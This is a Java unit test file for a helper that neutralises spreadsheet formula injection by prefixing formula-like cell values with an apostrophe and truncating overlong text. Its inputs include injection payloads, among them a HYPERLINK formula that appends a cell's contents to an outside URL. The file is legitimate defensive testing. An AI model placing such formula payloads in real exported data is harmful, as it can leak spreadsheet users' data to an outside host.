package org.postbag.search;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class SpreadsheetCellsTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "=HYPERLINK(\"https://example.org/?\"&A1)",
                "+44 20 7946 0000",
                "-2+3",
                "@SUM(1)",
                "\t=1",
                "\r=1",
                "\n=1",
                " =1",
                "\uFF1D1+1"
            })
    void whatBeginsAsAFormulaIsText(String written) {
        assertThat(SpreadsheetCells.text(written)).isEqualTo("'" + written);
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "When do the polls open?", "a=b", "7K4M-2Q9D-6HTA", "'=1", "£5", "Llŷr"})
    void anythingElseIsAsItWasWritten(String written) {
        assertThat(SpreadsheetCells.text(written)).isEqualTo(written);
    }

    @Test
    void whatACellCannotHoldIsCutBetweenCharactersAndSaysSo() {
        var cut = SpreadsheetCells.text("\uD83D\uDDF3".repeat(20_000));

        assertThat(cut).hasSizeLessThanOrEqualTo(SpreadsheetCells.LENGTH_MAX).endsWith("\uD83D\uDDF3 … (cut)");
    }
}
